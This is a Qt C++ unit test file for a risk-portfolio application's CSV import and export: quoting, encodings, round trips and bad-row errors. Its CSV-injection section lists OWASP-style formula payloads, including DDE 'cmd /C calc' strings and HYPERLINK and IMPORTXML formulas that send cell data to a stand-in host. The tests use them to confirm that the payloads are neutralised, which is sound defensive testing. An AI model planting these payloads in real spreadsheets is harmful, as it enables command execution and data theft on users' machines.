// tst_csvroundtrip.cpp — CSV: the RFC 4180 reader/writer, the cell encodings, the lossless round trip of
// risks and assessments on the shipped portfolio (identical Portfolio, byte-identical JSON), and bad rows
// reported with their row and column while the document stays unchanged.
#include "export/csv.h"
#include "export/csvcells.h"
#include "export/csvtables.h"
#include "exporttestsupport.h"
#include "document/documentwriter.h"

#include <QRegularExpression>

using namespace rb::exporting;
using namespace rb::exporting::test;
using rb::model::Portfolio;

Q_DECLARE_METATYPE(rb::exporting::CsvTableKind)

class TestCsvRoundTrip : public QObject {
    Q_OBJECT

private slots:
    void initTestCase() { m_portfolio = loadPortfolio(); }

    void writerQuotesAndReaderUndoesIt()
    {
        const QList<QStringList> rows = {{"id", "text"},
                                         {"a;b", "say \"hi\""},
                                         {"line\nbreak", "crlf\r\nkept"},
                                         {"", " spaces "},
                                         {"ünïcödé €", ","}};
        for (QChar d : {QLatin1Char(';'), QLatin1Char(','), QLatin1Char('\t')}) {
            const QByteArray bytes = writeCsv(rows, d);
            QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
            const CsvTable t = readCsv(bytes, d);
            QVERIFY(t.errors.isEmpty());
            QCOMPARE(t.rows, rows);
        }
        QVERIFY(writeCsv({{"a;b"}}, QLatin1Char(';')).contains("\"a;b\""));
        QVERIFY(writeCsv({{"say \"hi\""}}, QLatin1Char(';')).contains("\"say \"\"hi\"\"\""));
    }

    void readerAcceptsExcelVariants()
    {
        // No BOM, LF line ends, no final line break.
        CsvTable t = readCsv("a;b\n1;2", QLatin1Char(';'));
        QVERIFY(t.errors.isEmpty());
        QCOMPARE(t.rows, (QList<QStringList>{{"a", "b"}, {"1", "2"}}));
        t = readCsv("a;b\r\n\"x\ny\";2\r\n", QLatin1Char(';'));
        QCOMPARE(t.rows.size(), 2);
        QCOMPARE(t.rows[1][0], QStringLiteral("x\ny"));
    }

    void brokenQuoting_data()
    {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<int>("row");
        QTest::addColumn<int>("column");
        QTest::newRow("quote in unquoted field") << QByteArray("a;b\r\n1;x\"y\r\n") << 2 << 2;
        QTest::newRow("text after closing quote") << QByteArray("a;b\r\n\"1\"x;2\r\n") << 2 << 1;
        QTest::newRow("never closed") << QByteArray("a;b\r\n1;2\r\n3;\"open\r\n") << 3 << 2;
    }

    void brokenQuoting()
    {
        QFETCH(QByteArray, csv);
        QFETCH(int, row);
        QFETCH(int, column);
        const CsvTable t = readCsv(csv, QLatin1Char(';'));
        QCOMPARE(t.errors.size(), 1);
        QCOMPARE(t.errors.first().row, row);
        QCOMPARE(t.errors.first().column, column);
    }

    void listAndRecordEncoding()
    {
        const QStringList items = {"plain", "with|bar", "back\\slash", "new\nline", ""};
        QString error;
        QCOMPARE(*decodeList(encodeList(items), &error), items);
        const QList<QStringList> records = {{"2019-01-01", "pm", "a|b\\c\nd"}, {"", "", ""}};
        QCOMPARE(*decodeRecords(encodeRecords(records), &error), records);
        QVERIFY(!decodeList(QStringLiteral("bad\\x"), &error));
        QVERIFY(error.contains(QLatin1String("escape")));
        QCOMPARE(formatNumber(349.991, true), QStringLiteral("349,991"));
        QCOMPARE(formatNumber(6500, false), QStringLiteral("6500"));
        QCOMPARE(*parseDate(QStringLiteral("31-1-2019"), &error), QDate(2019, 1, 31));
        QVERIFY(!parseDate(QStringLiteral("2019-02-30"), &error));
    }

    void roundTrip_data()
    {
        QTest::addColumn<CsvTableKind>("table");
        QTest::addColumn<QChar>("delimiter");
        QTest::addColumn<bool>("decimalComma");
        QTest::newRow("risks ;") << CsvTableKind::Risks << QChar(';') << false;
        QTest::newRow("risks , ") << CsvTableKind::Risks << QChar(',') << false;
        QTest::newRow("risks ; decimal comma") << CsvTableKind::Risks << QChar(';') << true;
        QTest::newRow("assessments ;") << CsvTableKind::Assessments << QChar(';') << false;
        QTest::newRow("assessments tab") << CsvTableKind::Assessments << QChar('\t') << false;
        QTest::newRow("assessments ; decimal comma") << CsvTableKind::Assessments << QChar(';') << true;
    }

    void roundTrip()
    {
        QFETCH(CsvTableKind, table);
        QFETCH(QChar, delimiter);
        QFETCH(bool, decimalComma);
        for (const Portfolio &original : {m_portfolio, trickyPortfolio()}) {
            const CsvFormat format{delimiter, decimalComma};
            const QByteArray csv = exportCsv(original, table, format);
            Portfolio imported = original;
            // Start from an empty table so that the import really rebuilds it.
            if (table == CsvTableKind::Risks)
                imported.risks.clear();
            else
                imported.assessments.clear();
            const QList<CsvError> errors = importCsv(imported, table, csv, format);
            for (const CsvError &e : errors) qWarning() << e.row << e.column << e.message;
            QVERIFY(errors.isEmpty());
            QVERIFY(imported == original);
            QCOMPARE(rb::model::DocumentWriter::toJson(imported), rb::model::DocumentWriter::toJson(original));
        }
    }

    void badRows_data()
    {
        QTest::addColumn<CsvTableKind>("table");
        QTest::addColumn<int>("dataRow");    // 0-based data row to damage
        QTest::addColumn<QString>("column"); // header of the damaged cell; empty: drop the last field
        QTest::addColumn<QString>("value");
        QTest::addColumn<int>("expectedColumn"); // 0: the column of `column`
        QTest::addColumn<QString>("message");
        QTest::newRow("wrong column count") << CsvTableKind::Risks << 1 << QString() << QString() << -1 << "expected";
        QTest::newRow("bad number") << CsvTableKind::Risks << 2 << "probability"
                                    << "three" << 0 << "not a whole number";
        QTest::newRow("out of range") << CsvTableKind::Risks << 0 << "impact"
                                      << "7" << 0 << "outside 1..5";
        QTest::newRow("unknown enum") << CsvTableKind::Risks << 3 << "level"
                                      << "portfolio" << 0 << "unknown value 'portfolio'";
        QTest::newRow("unknown post in list") << CsvTableKind::Risks << 0 << "posts"
                                              << "2A1|NOPE" << 0 << "unknown post 'NOPE'";
        QTest::newRow("bad date") << CsvTableKind::Risks << 1 << "nextReview"
                                  << "2019-02-30" << 0 << "not a date";
        // Found by fuzz_csv in CI: a change without text (or a date) imported, and the document then
        // did not load ("missing required field change").
        QTest::newRow("history without change") << CsvTableKind::Risks << 1 << "history"
                                                << "2019-01-01|me|" << 0 << "needs a date and a change";
        QTest::newRow("history without date") << CsvTableKind::Risks << 1 << "history"
                                              << "|me|x" << 0 << "needs a date and a change";
        QTest::newRow("bad escape") << CsvTableKind::Risks << 1 << "history"
                                    << "2019-01-01|me|x\\y" << 0 << "escape";
        QTest::newRow("unknown post") << CsvTableKind::Assessments << 2 << "post"
                                      << "ZZ9" << 0 << "unknown post 'ZZ9'";
        QTest::newRow("unknown factor") << CsvTableKind::Assessments << 1 << "factor"
                                        << "luck" << 0 << "unknown success factor";
        // Found by fuzz_csv: a blank id was accepted and the saved document could not be read back.
        QTest::newRow("blank id") << CsvTableKind::Risks << 1 << "id"
                                  << "\v\v \t" << 0 << "id is required";
        QTest::newRow("empty title") << CsvTableKind::Risks << 2 << "title"
                                     << "" << 0 << "title is required";
        // Found by fuzz_csv: the import took delays the document reader refuses.
        QTest::newRow("delay beyond the format's range") << CsvTableKind::Risks << 0 << "delayDays"
                                                         << "1545455" << 0 << "outside 0..100000";
        QTest::newRow("score out of range") << CsvTableKind::Assessments << 0 << "score"
                                            << "6" << 0 << "outside 1..5";
    }

    void badRows()
    {
        QFETCH(CsvTableKind, table);
        QFETCH(int, dataRow);
        QFETCH(QString, column);
        QFETCH(QString, value);
        QFETCH(int, expectedColumn);
        QFETCH(QString, message);
        const CsvFormat format;
        QList<QStringList> rows = tableRows(m_portfolio, table, format);
        QVERIFY(rows.size() > dataRow + 1);
        QStringList &row = rows[dataRow + 1];
        int col = 0;
        if (column.isEmpty()) {
            row.removeLast();
            col = int(row.size()) + 1;
        } else {
            col = int(rows.first().indexOf(column)) + 1;
            QVERIFY(col > 0);
            row[col - 1] = value;
        }
        Portfolio p = m_portfolio;
        const QList<CsvError> errors = importCsv(p, table, writeCsv(rows, format.delimiter), format);
        QCOMPARE(errors.size(), 1);
        QCOMPARE(errors.first().row, dataRow + 2); // the header is row 1
        QCOMPARE(errors.first().column, expectedColumn == 0 ? col : col);
        QVERIFY2(errors.first().message.contains(message), qPrintable(errors.first().message));
        QVERIFY(p == m_portfolio); // nothing changed
    }

    void unknownHeaderAndDuplicates()
    {
        const CsvFormat format;
        QList<QStringList> rows = tableRows(m_portfolio, CsvTableKind::Risks, format);
        rows[0][3] = QStringLiteral("postz");
        Portfolio p = m_portfolio;
        QList<CsvError> errors = importCsv(p, CsvTableKind::Risks, writeCsv(rows, format.delimiter), format);
        QVERIFY(!errors.isEmpty());
        QCOMPARE(errors.first().row, 1);
        QCOMPARE(errors.first().column, 4);

        rows = tableRows(m_portfolio, CsvTableKind::Risks, format);
        rows << rows[1];
        errors = importCsv(p, CsvTableKind::Risks, writeCsv(rows, format.delimiter), format);
        QCOMPARE(errors.size(), 1);
        QCOMPARE(errors.first().row, int(rows.size()));
        QCOMPARE(errors.first().column, 1);
        QVERIFY(errors.first().message.contains(QLatin1String("duplicate")));
        QVERIFY(p == m_portfolio);
    }

    // The last guard of an import: the result must be a document the loader accepts. Here the
    // portfolio itself is broken (no programme name), so every import into it is refused, at 1:1.
    void importThatWouldNotLoadIsRefused()
    {
        const CsvFormat format;
        Portfolio broken = m_portfolio;
        broken.programme.name.clear();
        Portfolio p = broken;
        const QList<CsvError> errors
            = importCsv(p, CsvTableKind::Risks, exportCsv(m_portfolio, CsvTableKind::Risks, format), format);
        QVERIFY(!errors.isEmpty());
        QVERIFY2(errors.first().message.startsWith(QLatin1String("the document would not load")),
                 qPrintable(errors.first().message));
        QCOMPARE(errors.first().row, 1);
        QCOMPARE(errors.first().column, 1);
        QVERIFY(p == broken);
    }

    // Found by fuzz_csv: a rule about a column the file leaves out reported column 0.
    void ruleAboutAMissingColumnPointsAtACell()
    {
        const CsvFormat format;
        const QString post = m_portfolio.posts.first().id;
        Portfolio p = m_portfolio;
        QList<CsvError> errors = importCsv(
            p, CsvTableKind::Assessments,
            QStringLiteral("assessment;post;date;assessor;score\n1;%1;2018-10-15;me;4\n").arg(post).toUtf8(), format);
        QCOMPARE(errors.size(), 1);
        QCOMPARE(errors.first().row, 2);
        QCOMPARE(errors.first().column, 5); // the score that needs a factor
        QVERIFY(errors.first().message.startsWith(QLatin1String("factor: required")));
        errors = importCsv(
            p, CsvTableKind::Assessments,
            QStringLiteral("assessment;post;date;assessor;factor\n1;%1;2018-10-15;me;capacity\n").arg(post).toUtf8(),
            format);
        QCOMPARE(errors.size(), 1);
        QCOMPARE(errors.first().column, 5); // the factor that needs a score
        QVERIFY(errors.first().message.startsWith(QLatin1String("score: required")));
        QVERIFY(p == m_portfolio);
    }

    // CSV injection (CWE-1236): a text cell that starts with a formula trigger gets an apostrophe, one
    // that starts with an apostrophe one more; import takes exactly one off.
    void formulaProtection()
    {
        QCOMPARE(protectCell(QStringLiteral("=1+1")), QStringLiteral("'=1+1"));
        QCOMPARE(protectCell(QStringLiteral("\t=1")), QStringLiteral("'\t=1"));
        QCOMPARE(protectCell(QStringLiteral("'quoted")), QStringLiteral("''quoted"));
        QCOMPARE(protectCell(QStringLiteral("plain = text")), QStringLiteral("plain = text"));
        QCOMPARE(protectCell(QString()), QString());
        QCOMPARE(unprotectCell(QStringLiteral("''quoted")), QStringLiteral("'quoted"));
        QCOMPARE(unprotectCell(QStringLiteral("no apostrophe")), QStringLiteral("no apostrophe"));
        for (const QString &s : owaspPayloads() + QStringList{"'", "''", "'=x", "x'", "a-b", "-", "@"}) {
            QCOMPARE(unprotectCell(protectCell(s)), s);
            QVERIFY2(!startsWithFormulaTrigger(protectCell(s)), qPrintable(s));
        }
    }

    // The OWASP payloads in every text field of risks, assessments and posts: the written file never
    // starts a cell with a trigger (only a number column may start with '-', and then holds a number),
    // and importing it gives the document back, byte for byte.
    void owaspPayloadsRoundTrip_data()
    {
        QTest::addColumn<CsvTableKind>("table");
        QTest::addColumn<QChar>("delimiter");
        QTest::newRow("risks ;") << CsvTableKind::Risks << QChar(';');
        QTest::newRow("risks ,") << CsvTableKind::Risks << QChar(',');
        QTest::newRow("risks tab") << CsvTableKind::Risks << QChar('\t');
        QTest::newRow("assessments ;") << CsvTableKind::Assessments << QChar(';');
        QTest::newRow("assessments ,") << CsvTableKind::Assessments << QChar(',');
        QTest::newRow("posts ;") << CsvTableKind::Posts << QChar(';');
    }

    void owaspPayloadsRoundTrip()
    {
        QFETCH(CsvTableKind, table);
        QFETCH(QChar, delimiter);
        const Portfolio original = injectionPortfolio();
        const CsvFormat format{delimiter, false};
        const QByteArray csv = exportCsv(original, table, format);
        const CsvTable written = readCsv(csv, delimiter);
        QVERIFY(written.errors.isEmpty());
        const TypedTable typed = typedTable(original, table, format);
        static const QRegularExpression number(QStringLiteral("^-?\\d+(\\.\\d+)?$"));
        int protectedCells = 0;
        for (int r = 1; r < written.rows.size(); ++r) {
            for (int c = 0; c < written.rows[r].size(); ++c) {
                const QString &cell = written.rows[r][c];
                if (cell.startsWith(QLatin1Char('\''))) ++protectedCells;
                if (!startsWithFormulaTrigger(cell)) continue;
                QVERIFY2(typed.types[c] == CellType::Number && number.match(cell).hasMatch(),
                         qPrintable(QStringLiteral("row %1 column %2: %3").arg(r + 1).arg(typed.header[c], cell)));
            }
        }
        QVERIFY(protectedCells >= owaspPayloads().size()); // the payloads really are in the file
        if (table == CsvTableKind::Posts) return;          // export only
        Portfolio imported = original;
        if (table == CsvTableKind::Risks)
            imported.risks.clear();
        else
            imported.assessments.clear();
        const QList<CsvError> errors = importCsv(imported, table, csv, format);
        for (const CsvError &e : errors) qWarning() << e.row << e.column << e.message;
        QVERIFY(errors.isEmpty());
        QVERIFY(imported == original);
        QCOMPARE(rb::model::DocumentWriter::toJson(imported), rb::model::DocumentWriter::toJson(original));
    }

private:
    // OWASP's CSV injection examples (owasp.org/www-community/attacks/CSV_Injection) and the issue's
    // own, plus texts a user may type: leading apostrophes, a negative-looking number as text.
    static QStringList owaspPayloads()
    {
        return {QStringLiteral("=cmd|' /C calc'!A0"),
                QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
                QStringLiteral("+cmd|' /C calc'!A0"),
                QStringLiteral("-2+3+cmd|' /C calc'!A0"),
                QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0"),
                QStringLiteral("=1+2\";=1+2"),
                QStringLiteral("=1+2'\" ;,=1+2"),
                QStringLiteral("=DDE(\"cmd\";\"/C calc\";\"!A0\")A0"),
                QStringLiteral("=IMPORTXML(CONCAT(\"http://x.example/?v=\", CONCATENATE(A2:E2)), \"//a\")"),
                QStringLiteral("\t=1+2"),
                QStringLiteral("\r=1+2"),
                QStringLiteral("'=1+2"),
                QStringLiteral("''twice"),
                QStringLiteral("-42")};
    }

    // The shipped portfolio with a risk, an assessment and a post per payload, the payload in every
    // free-text field (and in list items and history records, so whole encoded cells start with it).
    Portfolio injectionPortfolio() const
    {
        Portfolio p = m_portfolio;
        const QStringList payloads = owaspPayloads();
        for (int i = 0; i < payloads.size(); ++i) {
            const QString &x = payloads[i];
            rb::model::Risk r;
            r.id = QStringLiteral("R-OWASP-%1").arg(i + 1);
            r.title = x;
            r.level = rb::model::RiskLevel::Project;
            r.cause = r.event = r.effect = r.owner = r.mitigation = r.note = x;
            r.history = {{QDate(2019, 1, 2), x, x}};
            r.sources = {{QString(), x, x}};
            p.risks << r;
            rb::model::Assessment a;
            a.post = p.posts.first().id;
            a.date = QDate(2019, 1, 1 + i);
            a.assessor = a.note = x;
            a.scores = {{p.successFactors.first().id, {3, x, x}}};
            p.assessments << a;
            rb::model::Post post = p.posts.first();
            post.id = QStringLiteral("OWASP%1").arg(i + 1);
            post.title = post.owner = post.contractor = post.projectLeader = post.result = post.goal = post.note = x;
            post.tags = {x};
            post.activities = {x, x};
            rb::model::Budget budget;
            budget.oneOff.proposed = -12.5; // a saving: a negative number stays a number
            post.budget = budget;
            p.posts << post;
        }
        return p;
    }

    // Values that stress the encodings: separators, escapes, line breaks, quotes, empty lists, an
    // assessment without scores, a risk with several sources.
    Portfolio trickyPortfolio() const
    {
        Portfolio p = m_portfolio;
        rb::model::Risk r;
        r.id = QStringLiteral("R-TRICKY");
        r.title = QStringLiteral("Title with ; and , and \"quotes\"\nand a line break | bar \\ backslash");
        r.level = rb::model::RiskLevel::Programme;
        r.posts = {p.posts.first().id, p.posts.last().id};
        r.probability = 2;
        r.residualImpact = 1;
        r.status = rb::model::RiskStatus::Occurred;
        r.history = {{QDate(2019, 1, 2), QStringLiteral("a|b"), QStringLiteral("multi\nline\\n literal")},
                     {QDate(2019, 2, 3), QString(), QStringLiteral("no author")}};
        r.sources = {{QString(), QStringLiteral("7. Risico's"), QStringLiteral("quote | with bar")},
                     {QStringLiteral("other doc"), QStringLiteral(""), QStringLiteral("")}};
        p.risks << r;
        rb::model::Risk spaces = r; // loads (a title need only be non-empty), so it must round-trip too
        spaces.id = QStringLiteral("R-SPACES");
        spaces.title = QStringLiteral("   ");
        p.risks << spaces;
        rb::model::Assessment empty;
        empty.post = p.posts.first().id;
        empty.date = QDate(2018, 1, 1);
        empty.assessor = QStringLiteral("nobody; really");
        empty.note = QStringLiteral("no scores yet");
        p.assessments.prepend(empty);
        rb::model::Assessment same = empty; // same post, date and assessor: kept apart by the number
        same.scores = {{QStringLiteral("planning"), {4, QStringLiteral("r\"r"), QStringLiteral("m\nm")}}};
        p.assessments.prepend(same);
        return p;
    }

    Portfolio m_portfolio;
};

QTEST_GUILESS_MAIN(TestCsvRoundTrip)
#include "tst_csvroundtrip.moc"
